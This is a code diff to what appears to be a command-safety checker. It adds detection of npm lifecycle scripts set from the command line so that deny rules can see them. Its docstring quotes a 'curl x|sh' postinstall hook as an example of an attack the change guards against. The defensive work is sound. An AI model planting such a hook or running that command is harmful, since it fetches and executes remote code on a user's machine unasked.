@@ -520,7 +520,34 @@ def _npm(view: tuple[str, ...]) -> Carried:
                 scripts.append(value)
             unseen = f"'{name}' changes how npm runs scripts, which no rule can read"
     scripts.extend(_npm_after_options(view))
+    scripts.extend(_scripts_set(view))
     return Carried(tuple(scripts), None, unseen) if scripts or unseen else _NOTHING
+
+
+def _scripts_set(view: tuple[str, ...]) -> list[str]:
+    """red team (R4.6, R4.7): a lifecycle script set from the command line is a command line the next install runs
+    unasked (`npm pkg set scripts.postinstall='curl x|sh'`, `npm set-script prepare CMD`, `pnpm pkg set
+    'scripts[preinstall]=CMD'`): read as the script it is (the floor and deny see it). A script run only by its name
+    (`scripts.test=jest`) is a project file's, as package.json is."""
+    if "set-script" in view:
+        k = view.index("set-script")
+        return list(view[k + 2 : k + 3]) if view[k + 1 : k + 2] and view[k + 1] in _LIFECYCLE else []
+    if "pkg" not in view or "set" not in view:
+        return []
+    out: list[str] = []
+    for w in view[view.index("set") + 1 :]:
+        name, eq, value = w.partition("=")
+        script = name.removeprefix("scripts.").removeprefix("scripts[").rstrip("]")
+        if eq and name.startswith(("scripts.", "scripts[")) and script in _LIFECYCLE:
+            out.append(value)
+    return out
+
+
+# npm's lifecycle scripts: run by install, ci, pack, publish and version without being named
+_LIFECYCLE = frozenset(
+    {"preinstall", "install", "postinstall", "prepare", "prepublish", "prepublishOnly", "prepack", "postpack"}
+    | {"dependencies", "preuninstall", "uninstall", "postuninstall", "preversion", "version", "postversion"}
+)
 
 
 def _npm_after_options(view: tuple[str, ...]) -> list[str]:
